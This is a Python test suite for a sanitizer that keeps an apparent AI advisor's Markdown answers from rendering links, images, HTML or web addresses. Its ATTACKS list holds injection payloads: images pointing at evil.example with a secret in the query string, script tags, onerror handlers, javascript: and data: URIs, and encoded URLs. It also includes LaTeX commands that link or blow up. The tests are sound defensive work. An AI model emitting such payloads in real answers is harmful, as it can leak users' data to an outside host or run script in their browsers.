"""Answers made safe to show: whatever the text, nothing in it can link, load or be HTML."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from advisor.trials.guards.control_characters import clean
from advisor.trials.guards.safe_markdown import JOINER, SHOWN_CHARACTERS, blocks, defused

ATTACKS = [
    "![x](https://evil.example/?q=secret)",
    "[go](https://evil.example)",
    "[go][ref]\n\n[ref]: https://evil.example",
    "![x][ref]\n\n[ref]:\n  https://evil.example",
    "<https://evil.example>",
    "https://evil.example/path",
    "www.evil.example",
    "HTTP://EVIL.example",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!-- comment -->",
    "[x](javascript:alert(1))",
    "[x](data:text/html,hi)",
    "| ` | ![x](https://evil.example) ` |\n| - | - |",
    "# `\n![x](https://evil.example)`",
    "`code ![x](https://evil.example)`",
    "\\` ![x](https://evil.example) `",
    '<b title="`"> ![x](https://evil.example) `',
    "[![x](https://a.example)](https://b.example)",
    "mail me@evil.example",
    "~~~\n![x](https://evil.example)",
    f"![x]{JOINER}(https://evil.example)",
    "[a\nb]: https://evil.example\n[a\nb]",
    "1https://evil.example",
    "_www.evil.example",
    "_http://evil.example",
    "http\\://evil.example",
    "www\\.evil.example",
    "me\\@evil.example",
    "&#104;ttp://evil.example",
    "&#x68;ttps://evil.example",
    "http&colon;//evil.example",
    "www&period;evil.example",
    "me&commat;evil.example",
    "&NewLine;&#119;ww.evil.example",
]

ADDRESS = re.compile(r"(?i)https?://|www\.|javascript:|[\w.+-]@\w")


def live(text: str) -> list[str]:
    """Links, images and HTML that a full Markdown parser finds in what would be drawn, and addresses in its text.

    Streamlit links what looks like an address in the finished text: escapes and entities are resolved by then.
    """
    parser = MarkdownIt("gfm-like", {"html": True, "linkify": False})
    found = []
    for block in blocks(text):
        if block.kind == "text":
            for token in parser.parse(block.text):
                inner = token.children or []
                found += [one.type for one in inner if one.type in ("link_open", "image", "html_inline")]
                found += [token.type] if token.type == "html_block" else []
                found += ADDRESS.findall("".join(one.content for one in inner if one.type == "text"))
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_taken_apart(attack: str) -> None:
    """No link, image or HTML survives, and no address stands in one piece."""
    assert live(f"Before {attack} after") == []
    assert live(attack) == []
    drawn = "".join(block.text for block in blocks(attack) if block.kind == "text")
    assert not re.search(r"(?i)https?://|www\.|javascript:|data:|\w@\w", drawn)


@given(st.text(alphabet="[]()!<>`:/\\ahtps.x \n\"'#|*_~", max_size=60))
def test_no_text_makes_a_link(text: str) -> None:
    """Random Markdown punctuation never adds up to something live."""
    assert live(text + "[x](https://evil.example)") == []


def test_code_stands_apart_with_its_language() -> None:
    """Fenced code becomes a block of its own, untouched."""
    found = blocks("See:\n```python\nx = a[0](1)\n```\nDone")
    assert [(block.kind, block.language) for block in found] == [("text", ""), ("code", "python"), ("text", "")]
    assert found[1].text == "x = a[0](1)"


def test_an_open_fence_is_code_to_the_end() -> None:
    """While an answer streams, a fence that is not closed yet is code."""
    assert [block.kind for block in blocks("```\nprint(1)\nprint(2)")] == ["code"]


def test_formulae_are_kept_and_money_is_not_a_formula() -> None:
    """Displayed and inline formulae survive in both spellings; prices keep their dollar."""
    found = blocks("It costs $5 to $10, \\(x^2\\) and $y_1$.\n\n$$E = mc^2$$\n\n\\[a+b\\]")
    assert [block.kind for block in found] == ["text", "math", "math"]
    assert found[0].text.startswith(r"It costs \$5 to \$10, $x^2$ and $y_1$.")


@pytest.mark.parametrize(
    "formula", [r"\href{https://x}{y}", r"\includegraphics{x}", r"\def\a{\a\a}\a", r"\rule{9em}{9em}"]
)
def test_formulae_that_do_more_than_show_are_text(formula: str) -> None:
    """Commands that link, load, define or blow up are not drawn as a formula."""
    found = blocks(f"$${formula}$$ and ${formula}$")
    assert [block.kind for block in found] == ["text"]
    assert "$$" not in found[0].text.replace(r"\$", "")


def test_a_huge_answer_is_cut_for_drawing() -> None:
    """A megabyte is not sent to the browser."""
    assert sum(len(block.text) for block in blocks("word " * 300_000)) <= SHOWN_CHARACTERS


def test_clean_text_has_no_controls() -> None:
    """Controls, colours of terminals, reordering marks and lone surrogates go; tabs and lines stay."""
    assert clean("a\x00b\x1b[31mc\u202ed\ud800e\tf\r\ng\rh\u2066i") == "abcde\tf\ng\nhi"


def test_defusing_twice_changes_nothing_more() -> None:
    """It is idempotent."""
    text = "[x](https://evil.example) <b>"
    assert defused(defused(text)) == defused(text)
